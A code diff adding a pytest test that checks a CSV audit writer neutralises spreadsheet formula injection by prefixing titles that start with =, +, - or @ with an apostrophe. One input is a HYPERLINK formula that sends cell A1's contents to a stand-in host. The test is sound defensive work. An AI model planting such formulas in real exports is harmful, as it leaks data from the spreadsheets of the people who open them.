@@ -196,3 +196,25 @@ def test_a_character_the_encoding_cannot_hold_is_refused_by_file_row_field_and_c
     )
     assert path.read_bytes() == b"the listing of yesterday\n"  # nothing lost
     assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv"]  # nothing left beside it
+
+
+@pytest.mark.parametrize(
+    ("title", "written"),
+    [
+        (
+            '=HYPERLINK("http://example.invalid/?d="&A1,"通知")',
+            '\'=HYPERLINK("http://example.invalid/?d="&A1,"通知")',
+        ),
+        ("+1 通知", "'+1 通知"),
+        ("-关于…的通知", "'-关于…的通知"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("关于=的通知", "关于=的通知"),  # only a formula's first character matters
+    ],
+)
+def test_a_title_that_would_start_a_formula_is_written_as_text(
+    tmp_path: Path, title: str, written: str
+) -> None:
+    path = tmp_path / "a.csv"
+    assert write_audit([_line(title)], path, "utf-8") == 1
+    rows = rows_of(path.read_bytes(), "utf-8-sig")
+    assert rows[1][AUDIT_HEADERS.index("title")] == written
